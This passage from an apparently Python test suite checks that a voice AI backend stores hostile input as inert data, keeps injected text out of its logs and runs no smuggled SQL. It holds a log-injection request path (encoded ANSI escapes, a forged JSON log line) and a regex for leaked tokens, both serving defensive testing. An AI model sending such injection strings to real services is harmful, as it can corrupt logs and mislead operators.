    await sent_with(served, _operation("config"), dict.fromkeys(names, NASTY) | secrets)
    (row,) = (await served.rows())["VoiceAiConfig"]
    read = (await exchange(served.url, request("GET", CONFIG, [bearer(served.superadmin_token)]))).json()["config"]

    assert read["aiVoiceProvider"] == read["sinchEstTrunkDomain"] == row["sinch_est_key_id"] == NASTY
    assert served.relay.vault.open(row["sinch_est_key_secret_sealed"]).get_secret_value() == NASTY
    assert served.relay.vault.open(row["elevenlabs_api_key_sealed"]).get_secret_value() == NASTY


async def test_nothing_nasty_was_logged_as_it_was_sent(served: Served) -> None:
    """Log lines are printable ASCII; what callers said is not in them, nor are their numbers and tokens."""
    await exchange(
        served.url, request("GET", "/%1b%5b31m%0a%7b%22level%22:%22error%22%7d%e2%80%a8", [(b"X-Request-Id", b"a\tb")])
    )
    said = served.process.errors

    assert all(line.isascii() and line.isprintable() for line in said.split("\n"))
    assert "DROP TABLE" not in said
    assert not re.search(r"4165550|2362320|tk_live_[0-9a-f]{8}|eyJ[A-Za-z0-9]{8}|\b[0-9a-f]{64}\b", said)


async def test_everything_is_still_there(served: Served) -> None:
    """No statement that was sent as data was ever run."""
    rows = await served.rows()

    assert {name for name, found in rows.items() if found} >= {"Call", "Contact", "ContactNote", "Message", "Event"}
    assert [user["email"] for user in rows["User"]] == [served.demo.superadmin_email]
